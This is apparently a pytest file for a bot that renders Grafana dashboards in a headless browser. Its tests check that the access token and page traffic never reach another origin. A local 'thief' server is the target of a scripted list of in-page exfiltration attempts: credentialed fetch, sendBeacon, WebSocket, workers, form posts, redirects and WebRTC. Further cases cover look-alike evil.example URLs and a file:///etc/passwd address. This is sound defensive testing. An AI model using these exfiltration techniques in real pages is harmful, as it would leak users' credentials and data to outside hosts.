"""The token goes to Grafana and to nobody else, and the page reaches nobody else, whatever it tries."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
from aiohttp import web

from bot.cameras.browser.address import GrafanaAddress
from bot.errors import ConfigurationError
from tests.cameras.browser.taking import states, studio
from tests.pages.boards import TOKEN, Panel

pytestmark = pytest.mark.timeout(180)


@dataclass
class Thief:
    """Somebody else's server: whoever as much as connects is written down, with what he brought."""

    port: int = 0
    visits: list[bytes] = field(default_factory=list)

    async def meet(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.visits.append(await reader.read(2000))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nAccess-Control-Allow-Origin: *\r\n\r\nok")
        writer.close()


@pytest.fixture
async def thief() -> AsyncIterator[Thief]:
    made = Thief()
    server = await asyncio.start_server(made.meet, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    yield made
    server.close()


ATTEMPTS = """
  const there = "http://127.0.0.1:PORT";
  const html = `<img src="${there}/img"><iframe src="${there}/frame"></iframe><link rel=stylesheet href="${there}/css">
    <link rel=preconnect href="${there}"><link rel=prefetch href="${there}/prefetch"><video src="${there}/video"></video>
    <object data="${there}/object"></object><style>@font-face{font-family:x;src:url(${there}/font)} p{font-family:x}</style><p>x</p>`;
  section.insertAdjacentHTML("beforeend", html);
  const script = document.createElement("script"); script.src = there + "/script"; document.head.append(script);
  fetch(there + "/fetch", { mode: "no-cors", credentials: "include" }).catch(() => {});
  fetch("/api/away").catch(() => {});
  fetch("/api/away-and-back").catch(() => {});
  const request = new XMLHttpRequest(); request.open("POST", there + "/xhr"); request.send("x");
  navigator.sendBeacon(there + "/beacon", "x");
  new WebSocket("ws://127.0.0.1:PORT/socket");
  new EventSource(there + "/events");
  const code = `fetch("${there}/worker", { mode: "no-cors" }); new WebSocket("ws://127.0.0.1:PORT/worker-socket");
    fetch(location.origin === "null" ? "x" : "/api/from-worker").catch(() => {})`;
  new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
  navigator.serviceWorker?.register("/public/build/boards.js").catch(() => {});
  window.open(there + "/popup");
  const form = document.createElement("form"); form.action = there + "/form"; form.method = "post"; form.target = "_blank";
  document.body.append(form); form.submit();
  const link = document.createElement("a"); link.href = "/api/file"; link.download = "file"; document.body.append(link); link.click();
  const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:PORT" }, { urls: "turn:127.0.0.1:PORT?transport=tcp", username: "a", credential: "b" }] });
  peer.createDataChannel("x"); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""


async def test_no_other_origin_is_reached_from_the_page(thief):
    async with studio() as made:
        away = web.Response(status=302, headers={"Location": f"http://127.0.0.1:{thief.port}/redirected"})
        made.grafana.answers["api/away"] = away
        made.grafana.answers["api/away-and-back"] = web.Response(status=302, headers={"Location": "/api/back"})
        # The page waits a little after its attempts, so that all of them have had their time.
        script = ATTEMPTS.replace("PORT", str(thief.port))

        picture = await made.take(Panel(1, "restless", script=script), Panel(2, "slow", takes_s=2))

        assert states(picture) == {"restless": "ready", "slow": "ready"}
        assert thief.visits == []
        paths = {path for _, path, _ in made.grafana.asked}
        assert {"/api/away", "/api/away-and-back", "/api/back"} <= paths
        assert {headers.get("Authorization") for _, _, headers in made.grafana.asked} == {f"Bearer {TOKEN}"}


@pytest.mark.parametrize(
    "script",
    [
        "location.href = 'http://127.0.0.1:PORT/page'",
        "setTimeout(() => location.replace('http://127.0.0.1:PORT/page'), 300)",
        "document.head.insertAdjacentHTML('beforeend', `<meta http-equiv=refresh content='0;url=http://127.0.0.1:PORT/page'>`)",
        "location.href = '/api/away'",
    ],
    ids=["at once", "later", "meta", "by redirect"],
)
async def test_a_page_that_leaves_for_somewhere_else_is_no_picture(thief, script):
    async with studio() as made:
        made.grafana.answers["api/away"] = web.Response(
            status=302, headers={"Location": f"http://127.0.0.1:{thief.port}/page"}
        )
        refusal = await made.refused(Panel(1, "slow", takes_s=3), script=script.replace("PORT", str(thief.port)))

        assert refusal.reason == "elsewhere"
        assert refusal.detail == f"http://127.0.0.1:{thief.port}/page"
        assert thief.visits == []


async def test_a_redirect_of_the_dashboard_itself_is_not_followed_to_somebody_else(thief):
    async with studio() as made:
        made.grafana.answers["d/board"] = web.Response(
            status=302, headers={"Location": f"http://127.0.0.1:{thief.port}/oauth/authorize"}
        )

        refusal = await made.refused(Panel(1, "first"))

        assert (refusal.reason, refusal.detail) == ("elsewhere", f"http://127.0.0.1:{thief.port}/oauth/authorize")
        assert thief.visits == []


async def test_another_name_of_the_same_host_is_somewhere_else(thief):
    async with studio() as made:
        port = made.grafana.url.rpartition(":")[2].strip("/")
        made.grafana.answers["d/board"] = web.Response(
            status=302, headers={"Location": f"http://localhost:{port}/d/other"}
        )

        assert (await made.refused(Panel(1, "first"))).reason == "elsewhere"
        assert {path for _, path, _ in made.grafana.asked} == {"/d/board"}


async def test_without_the_right_token_there_is_no_picture():
    async with studio(token="glsa_wrong") as made:
        assert (await made.refused(Panel(1, "first"))).reason == "login"


async def test_a_grafana_that_is_not_there_is_said_to_be_unreachable():
    async with studio(grafana_url="http://127.0.0.1:1/") as made:
        refusal = await made.refused(Panel(1, "first"))

        assert refusal.reason == "unreachable"


@pytest.mark.parametrize(
    ("url", "owned"),
    [
        ("https://grafana.example/api/x", True),
        ("https://grafana.example:443/", True),
        ("https://GRAFANA.example/", True),
        ("http://grafana.example/", False),
        ("https://grafana.example:8443/", False),
        ("https://grafana.example.evil.example/", False),
        ("https://grafana.example@evil.example/", False),
        ("https://evil.example/?https://grafana.example/", False),
        ("wss://grafana.example/", False),
        ("data:text/html,x", False),
        ("https://[::1", False),
    ],
)
def test_only_grafanas_own_origin_is_its_own(url, owned):
    assert GrafanaAddress.of("https://grafana.example").owns(url) is owned


@pytest.mark.parametrize(
    "url", ["", "grafana", "ftp://grafana.example", "file:///etc/passwd", "https://", "http://x:port"]
)
def test_what_is_no_web_address_is_no_grafana(url):
    with pytest.raises(ConfigurationError):
        GrafanaAddress.of(url)
